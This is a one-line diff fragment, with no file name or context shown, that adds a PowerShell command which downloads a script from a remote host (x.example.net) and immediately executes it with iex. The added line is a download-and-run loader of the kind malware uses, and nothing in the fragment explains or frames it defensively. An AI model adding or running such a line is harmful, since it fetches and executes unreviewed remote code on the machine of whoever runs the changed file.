@@ -1,0 +1,1 @@
+iex (iwr -UseBasicParsing https://x.example.net/s.ps1)
